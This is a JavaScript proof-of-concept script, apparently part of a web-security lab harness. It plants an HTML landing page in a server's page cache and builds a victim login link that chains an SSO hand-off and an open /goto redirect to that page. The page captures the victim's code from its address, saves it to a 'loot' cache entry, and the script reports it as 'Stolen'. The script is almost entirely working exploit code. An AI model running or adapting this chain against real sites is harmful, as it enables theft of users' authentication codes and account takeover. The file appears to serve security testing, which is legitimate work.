import { failed, finish, ok, params, read, result, run, sleep, status, tagged, targetOrigin } from './lab.js';

const landing = `proxy-${run}`;
const loot = `proxy-${run}-loot`;

/** The landing page: it reads the code from its address and saves it in this server's page cache. */
const landingPage = `<!doctype html><meta charset="utf-8"><title>Welcome</title><p id="note">Welcome!</p><script>
const code = new URLSearchParams(location.search).get('code') ?? '';
fetch('/cache/${loot}?lab-run=${run}', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  body: new URLSearchParams({ data: code, type: 'text/plain; charset=utf-8' }) })
  .then(() => { document.getElementById('note').textContent = 'Thanks!'; });
</` + 'script>';

async function plant() {
  const response = await fetch(tagged(`/cache/${landing}`), {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ data: landingPage, type: 'text/html; charset=utf-8' }),
  });
  return response.ok ? ok(`${location.origin}/cache/${landing}`) : failed(`/cache/${landing} answered ${response.status}`);
}

function victimLink(target) {
  // The query of /goto/ADDRESS is the address's: the hop and the landing visit both carry the run id.
  const next = `/goto/${location.origin}/cache/${landing}?lab-run=${run}`;
  const sso = `/lab/sso.html?next=${encodeURIComponent(next)}&lab-run=${run}`;
  const login = new URL('/login', target);
  login.searchParams.set('username', params.get('user') ?? 'victim');
  login.searchParams.set('password', params.get('password') ?? 'victim');
  login.searchParams.set('goto', sso);
  return tagged(login);
}

/** Waits (up to 6 s) for the code in this server's request log: the landing page's address carries it. */
async function fromRequestLog() {
  for (let attempt = 0; attempt < 60; attempt++) {
    const response = await fetch(tagged('/requests'), { cache: 'no-store' });
    if (!response.ok) {
      return failed(`no request log here (/requests answered ${response.status})`);
    }
    const visit = (await response.json()).find(request => request.method === 'GET' && request.target.startsWith(`/cache/${landing}?`));
    if (visit) {
      const code = new URLSearchParams(visit.target.split('?')[1]).get('code');
      return code ? read(code) : failed(`the landing page was visited without a code: ${visit.target}`);
    }
    await sleep(100);
  }
  return failed('the landing page was not visited within 6 s');
}

/** The code the landing page saved in the page cache. */
async function fromCache() {
  for (let attempt = 0; attempt < 30; attempt++) {
    const response = await fetch(tagged(`/cache/${loot}`), { cache: 'no-store' });
    if (response.ok) {
      return read((await response.text()).trim());
    }
    await sleep(100);
  }
  return failed(`nothing at /cache/${loot}`);
}

const target = await targetOrigin();
document.getElementById('about').textContent = `This page (the attacker's): ${location.origin}. Target: ${target}.`;
status(`Planting the landing page (run ${run})…`);
const table = result('proxy', target, ['outcome']);
const row = (name, cell) => table.rows.push({ name, cells: [cell] });
row('landing page planted in the page cache', await plant());
const link = victimLink(target);
const victim = window.open(link, '_blank');
const anchor = document.getElementById('victim-link');
anchor.href = link;
anchor.hidden = false;
row('victim link (login, hand-off, /goto)', victim ? ok(link) : failed('the pop-up was blocked: open the link above'));
status('Waiting for the victim…');
const logged = await fromRequestLog();
row('code in the request log (the landing page\'s address)', logged);
const cached = logged.outcome === 'read' ? await fromCache() : failed('no visit');
row('code saved by the landing page in the page cache', cached);
row('stolen', cached.outcome === 'read' ? cached : logged);
victim?.close();
document.getElementById('stolen').textContent = logged.outcome === 'read' ? `Stolen: ${logged.detail}` : 'Nothing stolen.';
await finish(table);
